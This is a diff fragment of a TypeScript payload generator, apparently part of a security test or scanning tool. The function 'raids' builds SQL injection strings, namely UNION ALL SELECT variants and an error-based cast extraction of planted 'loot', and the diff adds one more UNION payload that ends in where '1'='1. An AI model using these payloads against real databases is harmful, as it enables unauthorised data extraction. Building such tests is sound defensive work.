@@ -58,6 +58,8 @@ export function raids(table: Table, { table: name, column }: Plant): readonly st
   const union = (quote: string, values: readonly string[]) => `${quote} union all select ${values.join(',')}--`;
   return [
     union("'", columns),
+    // The rest of the statement goes on behind it, with its parameters.
+    `' union all select ${columns.join(',')} where '1'='1`,
     union("'", [...columns, 'null']),
     union(' ', columns),
     `' and 1=cast(${loot} as int)--`,
